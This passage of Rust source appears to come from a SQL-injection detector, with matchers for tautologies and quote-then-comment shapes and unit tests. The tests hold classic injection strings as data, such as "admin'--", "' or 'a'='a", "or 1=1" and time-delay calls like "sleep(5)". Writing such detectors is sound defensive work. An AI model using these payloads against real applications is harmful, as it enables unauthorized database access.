                while k < chars.len() && chars[k] == ' ' {
                    k += 1;
                }
                if k < chars.len() && chars[k] == '\'' {
                    let r_start = k + 1;
                    let mut m = r_start;
                    while m < chars.len() && chars[m] != '\'' {
                        m += 1;
                    }
                    // Right side may be cut by a comment before its closing
                    // quote ('a'='a): compare what is there.
                    let right: String = chars[r_start..m.min(chars.len())].iter().collect();
                    if !left.is_empty() && left == right {
                        return true;
                    }
                    if left.is_empty() && right.is_empty() {
                        return true; // ''='' shape
                    }
                }
            }
            // Try every quote position as a potential left side: quote
            // pairing is ambiguous in injected fragments.
            i += 1;
        } else {
            i += 1;
        }
    }
    false
}

fn quote_then_comment(value: &str) -> bool {
    let chars: Vec<char> = value.chars().collect();
    for (i, &c) in chars.iter().enumerate() {
        if c == '\'' || c == '"' {
            let mut j = i + 1;
            while j < chars.len() && chars[j] == ' ' {
                j += 1;
            }
            if j < chars.len() && (chars[j] == '#' || chars[j] == ';') {
                return true;
            }
            if j + 1 < chars.len() && chars[j] == '-' && chars[j + 1] == '-' {
                return true;
            }
            if j >= chars.len() && i + 1 < chars.len() {
                // quote then only spaces to the end: not a comment
            }
        }
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn substr_and_tokens() {
        assert!(Pattern::Substr("union").matches("a union b"));
        assert!(!Pattern::Substr("union").matches("uni on"));
        assert!(Pattern::TokenSeq(&["union", "select"]).matches("x union all select y"));
        assert!(!Pattern::TokenSeq(&["union", "select"]).matches("select ... union"));
    }

    #[test]
    fn any_of() {
        const P: Pattern =
            Pattern::AnyOf(&[Pattern::Substr("sleep("), Pattern::Substr("benchmark(")]);
        assert!(P.matches("1 and sleep(5)"));
        assert!(P.matches("benchmark(100,md5(1))"));
        assert!(!P.matches("asleep at the wheel"));
    }

    #[test]
    fn numeric_tautology_shapes() {
        assert!(Pattern::NumericTautology.matches("or 1=1"));
        assert!(Pattern::NumericTautology.matches("or 23 = 23 --"));
        assert!(!Pattern::NumericTautology.matches("or 1=2"));
        assert!(!Pattern::NumericTautology.matches("price=10 and qty=2"));
        assert!(Pattern::NumericTautology.matches("x=5 or 7=7"));
    }

    #[test]
    fn string_tautology_shapes() {
        assert!(Pattern::StringTautology.matches("' or 'a'='a"));
        assert!(Pattern::StringTautology.matches("'x' = 'x'"));
        assert!(!Pattern::StringTautology.matches("'a'='b'"));
        assert!(!Pattern::StringTautology.matches("it's a nice day"));
    }

    #[test]
    fn quote_then_comment_shapes() {
        assert!(Pattern::QuoteThenComment.matches("admin'--"));
        assert!(Pattern::QuoteThenComment.matches("x' -- y"));
        assert!(Pattern::QuoteThenComment.matches("x'#"));
        assert!(Pattern::QuoteThenComment.matches("x';"));
        assert!(!Pattern::QuoteThenComment.matches("o'neil said -- wait"));
        assert!(!Pattern::QuoteThenComment.matches("plain"));
    }
}
